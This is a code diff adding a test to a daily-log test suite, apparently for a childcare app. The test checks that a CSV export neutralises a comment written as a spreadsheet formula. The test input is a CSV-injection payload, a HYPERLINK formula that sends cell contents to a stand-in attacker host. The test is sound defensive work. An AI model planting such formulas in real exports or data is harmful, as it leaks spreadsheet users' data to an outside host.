@@ -351,6 +351,22 @@ describe('daily log (spec 001 §3, §5, §9)', () => {
     expect(lines.some((l) => l.includes('Delta'))).toBe(false)
   })
 
+  it('writes a comment that starts like a formula as text in the CSV (docs/security.md, Input)', async () => {
+    await log('teacher', [ids.c1!], {
+      time: '13:00',
+      comment: '=HYPERLINK("https://evil.test/?"&A1,"Open")',
+      data: { kind: 'incident' },
+    })
+    const res = await call(
+      'director',
+      'GET',
+      `/api/v1/daily-log/export?format=csv&from=${today}&to=${today}&childId=${ids.c1}`,
+    )
+    expect(res.statusCode, res.body).toBe(200)
+    expect(res.body).toContain(`"'=HYPERLINK(""https://evil.test/?""&A1,""Open"")"`)
+    expect(res.body).not.toMatch(/,"?=HYPERLINK/)
+  })
+
   it('exports a child’s period as a PDF; outside the scope 404', async () => {
     const res = await call(
       'teacher',
